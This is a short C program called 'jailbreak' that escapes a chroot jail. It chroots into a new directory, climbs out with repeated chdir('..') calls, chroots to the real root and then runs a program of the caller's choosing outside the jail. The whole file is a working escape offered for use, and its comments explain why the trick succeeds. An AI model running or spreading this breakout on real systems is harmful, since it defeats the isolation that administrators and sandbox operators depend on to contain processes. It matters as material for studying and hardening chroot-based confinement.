/*
 * jailbreak - leave a chroot, and run a program outside
 *
 *	jailbreak PROG [ARG]...
 *
 * Wraps chroot(2), which moves the root of this process, and leaves its
 * current folder where it is.  Needs CAP_SYS_CHROOT, which root has.
 */
#include <sys/stat.h>

#include <stdio.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	int level;

	if (argc < 2 || (mkdir("/cell", 0700), chroot("/cell")) < 0) {
		perror("jailbreak PROG");
		return 125;
	}

	/*
	 * ".." ends at our root.  That is the cell now, and we stand above it:
	 * on the way up we never meet it, and the root that was the jail's is
	 * forgotten.  Only that of the mount namespace is left to stop us.
	 */
	for (level = 0; level < 1000; level++)
		chdir("..");
	chroot(".");

	execvp(argv[1], argv + 1);
	perror(argv[1]);
	return 127;
}
